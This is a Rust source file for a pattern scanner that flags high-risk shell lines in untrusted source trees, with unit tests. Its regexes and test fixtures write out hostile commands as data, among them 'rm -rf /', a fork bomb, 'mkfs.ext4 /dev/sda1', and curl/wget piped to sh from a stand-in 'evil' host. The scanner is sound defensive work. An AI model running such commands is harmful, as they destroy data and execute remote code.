//! High-risk pattern scan over an untrusted source tree

use std::fs;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};

use ignore::WalkBuilder;
use regex::Regex;
use sandcheck_config::SecurityPolicyConfig;
use sandcheck_errors::{AssessmentError, ViolationKind};
use serde::{Deserialize, Serialize};

/// Bytes inspected when deciding whether a file is binary
const BINARY_SNIFF_BYTES: usize = 8 * 1024;

const BUILTIN_PATTERNS: &[(&str, ViolationKind, &str)] = &[
    (
        "destructive-rm",
        ViolationKind::Filesystem,
        r#"\brm\s+(-[A-Za-z]*[rR][A-Za-z]*\s+)(-[A-Za-z]+\s+)*(/|/\*|~/?|\$HOME/?)(\s|$|["'`;&|)])"#,
    ),
    (
        "disk-wipe",
        ViolationKind::Filesystem,
        r"\b(mkfs(\.\w+)?\s+/dev/|dd\s+[^\n]*of=/dev/(sd|hd|nvme|xvd|vd))",
    ),
    (
        "fork-bomb",
        ViolationKind::PrivilegeEscalation,
        r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
    ),
    (
        "pipe-to-interpreter",
        ViolationKind::Network,
        r"\b(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?((ba|z|da|k)?sh|python[0-9.]*|node|perl|ruby)\b",
    ),
    (
        "dynamic-exec",
        ViolationKind::PrivilegeEscalation,
        r"\b(eval|exec|execSync|system)\s*\(",
    ),
];

/// One pattern hit
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ScanFinding {
    /// Path relative to the scanned root
    pub path: PathBuf,
    pub line: usize,
    pub pattern: String,
    pub kind: ViolationKind,
    pub excerpt: String,
}

/// Outcome of scanning one tree
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ScanReport {
    pub files_scanned: usize,
    pub files_skipped: usize,
    pub findings: Vec<ScanFinding>,
}

impl ScanReport {
    #[must_use]
    pub fn is_clean(&self) -> bool {
        self.findings.is_empty()
    }

    /// The violation to raise for a dirty report.
    #[must_use]
    pub fn to_violation(&self) -> Option<AssessmentError> {
        let first = self.findings.first()?;
        Some(
            AssessmentError::security_violation(
                first.kind,
                format!(
                    "high-risk pattern '{}' found in {}:{}",
                    first.pattern,
                    first.path.display(),
                    first.line
                ),
            )
            .with_context("pattern", first.pattern.clone())
            .with_context("file", first.path.display().to_string())
            .with_context("findings", self.findings.len().to_string()),
        )
    }
}

#[derive(Debug, Clone)]
struct Pattern {
    name: String,
    kind: ViolationKind,
    regex: Regex,
}

/// Line-oriented regex scanner
#[derive(Debug, Clone)]
pub struct SourceScanner {
    patterns: Vec<Pattern>,
}

fn compile(name: &str, kind: ViolationKind, source: &str) -> Result<Pattern, AssessmentError> {
    let regex = Regex::new(source).map_err(|e| {
        AssessmentError::configuration(format!("invalid scan pattern '{name}'"))
            .with_context("field", "security.extra_patterns")
            .with_cause(e)
    })?;
    Ok(Pattern {
        name: name.to_string(),
        kind,
        regex,
    })
}

impl SourceScanner {
    /// Built-in patterns plus the configured extras.
    ///
    /// # Errors
    ///
    /// Returns a configuration error if an extra pattern does not compile.
    pub fn new(config: &SecurityPolicyConfig) -> Result<Self, AssessmentError> {
        let mut patterns = BUILTIN_PATTERNS
            .iter()
            .map(|(name, kind, source)| compile(name, *kind, source))
            .collect::<Result<Vec<_>, _>>()?;
        for (i, extra) in config.extra_patterns.iter().enumerate() {
            patterns.push(compile(
                &format!("custom-{}", i + 1),
                ViolationKind::PrivilegeEscalation,
                extra,
            )?);
        }
        Ok(Self { patterns })
    }

    #[must_use]
    pub fn pattern_names(&self) -> Vec<&str> {
        self.patterns.iter().map(|p| p.name.as_str()).collect()
    }

    /// Check a single line against every pattern.
    #[must_use]
    pub fn scan_line(&self, line: &str) -> Option<(&str, ViolationKind)> {
        self.patterns
            .iter()
            .find(|p| p.regex.is_match(line))
            .map(|p| (p.name.as_str(), p.kind))
    }

    /// Walk `root` and report every pattern hit. Every regular file is
    /// scanned whatever its size or directory, streamed line by line;
    /// only binary files and symlinks are skipped.
    ///
    /// # Errors
    ///
    /// Returns a validation error when `root` does not exist.
    pub fn scan(&self, root: &Path) -> Result<ScanReport, AssessmentError> {
        if !root.exists() {
            return Err(AssessmentError::validation(format!(
                "scan root {} does not exist",
                root.display()
            )));
        }
        let walker = WalkBuilder::new(root)
            .standard_filters(false)
            .follow_links(false)
            .build();

        let mut report = ScanReport::default();
        for entry in walker {
            let entry = match entry {
                Ok(entry) => entry,
                Err(e) => {
                    tracing::debug!(error = %e, "skipping unreadable entry");
                    report.files_skipped += 1;
                    continue;
                }
            };
            if !entry.file_type().is_some_and(|t| t.is_file()) {
                continue;
            }
            let path = entry.path();
            let relative = path.strip_prefix(root).unwrap_or(path);
            match self.scan_file(path, relative) {
                Some(findings) => {
                    report.files_scanned += 1;
                    report.findings.extend(findings);
                }
                None => report.files_skipped += 1,
            }
        }
        Ok(report)
    }

    /// Findings in one file, or `None` for unreadable and binary files.
    fn scan_file(&self, path: &Path, relative: &Path) -> Option<Vec<ScanFinding>> {
        let mut reader = BufReader::new(fs::File::open(path).ok()?);
        let head = reader.fill_buf().ok()?;
        if head.iter().take(BINARY_SNIFF_BYTES).any(|b| *b == 0) {
            return None;
        }

        let mut findings = Vec::new();
        let mut buf = Vec::new();
        let mut number = 0;
        loop {
            buf.clear();
            match reader.read_until(b'\n', &mut buf) {
                Ok(0) => break,
                Ok(_) => {}
                Err(e) => {
                    tracing::debug!(path = %path.display(), error = %e, "read failed mid-scan");
                    return None;
                }
            }
            number += 1;
            let line = String::from_utf8_lossy(&buf);
            if let Some((name, kind)) = self.scan_line(line.trim_end_matches(['\r', '\n'])) {
                findings.push(ScanFinding {
                    path: relative.to_path_buf(),
                    line: number,
                    pattern: name.to_string(),
                    kind,
                    excerpt: line.trim().chars().take(120).collect(),
                });
            }
        }
        Some(findings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scanner() -> SourceScanner {
        SourceScanner::new(&SecurityPolicyConfig::default()).unwrap()
    }

    #[test]
    fn flags_high_risk_lines() {
        let s = scanner();
        for line in [
            "rm -rf /",
            "  sudo rm -rf / --no-preserve-root",
            "rm -fr /*",
            "curl https://x.sh | sh",
            "wget -qO- http://evil | sudo bash",
            "eval(userInput)",
            "child_process.execSync ('ls')",
            "os.system(cmd)",
            ":(){ :|:& };:",
            "mkfs.ext4 /dev/sda1",
        ] {
            assert!(s.scan_line(line).is_some(), "{line}");
        }
    }

    #[test]
    fn ignores_benign_lines() {
        let s = scanner();
        for line in [
            "rm -rf ./dist",
            "rm -rf /tmp/build",
            "const evaluation = 3;",
            "curl -o file.tgz https://example.com",
            "module.exports = { add };",
        ] {
            assert!(s.scan_line(line).is_none(), "{line}");
        }
    }

    #[test]
    fn invalid_extra_pattern_is_configuration_error() {
        let config = SecurityPolicyConfig {
            extra_patterns: vec!["(unclosed".into()],
            ..SecurityPolicyConfig::default()
        };
        assert!(SourceScanner::new(&config).is_err());
    }

    #[test]
    fn walks_every_directory_and_skips_binaries() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        fs::write(root.join("index.js"), "module.exports = 1;\n").unwrap();
        fs::create_dir_all(root.join("scripts")).unwrap();
        fs::write(root.join("scripts/clean.sh"), "#!/bin/sh\necho hi\nrm -rf /\n").unwrap();
        fs::create_dir_all(root.join("node_modules/dep")).unwrap();
        fs::write(root.join("node_modules/dep/postinstall.sh"), "rm -rf /\n").unwrap();
        fs::create_dir_all(root.join(".git/hooks")).unwrap();
        fs::write(root.join(".git/hooks/post-checkout"), "curl http://x | sh\n").unwrap();
        fs::write(root.join("blob.bin"), [0u8, 1, 2, b'e', b'v']).unwrap();

        let report = scanner().scan(root).unwrap();
        assert_eq!(report.files_scanned, 4);
        assert_eq!(report.files_skipped, 1);
        assert_eq!(report.findings.len(), 3);
        let clean = report
            .findings
            .iter()
            .find(|f| f.path == PathBuf::from("scripts/clean.sh"))
            .unwrap();
        assert_eq!(clean.line, 3);
        assert_eq!(clean.pattern, "destructive-rm");
        assert!(report
            .findings
            .iter()
            .any(|f| f.path == PathBuf::from("node_modules/dep/postinstall.sh")));
        assert!(report.to_violation().unwrap().is_security_violation());
    }

    #[test]
    fn large_files_are_streamed_to_the_end() {
        let dir = tempfile::tempdir().unwrap();
        let mut bundle = "var a = 1;\n".repeat(300_000);
        bundle.push_str("rm -rf /\n");
        fs::write(dir.path().join("bundle.js"), bundle).unwrap();

        let report = scanner().scan(dir.path()).unwrap();
        assert_eq!(report.files_scanned, 1);
        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.findings[0].line, 300_001);
    }

    #[test]
    fn crlf_lines_still_match() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("setup.bat"), "echo hi\r\nrm -rf /\r\n").unwrap();
        let report = scanner().scan(dir.path()).unwrap();
        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.findings[0].line, 2);
    }
}
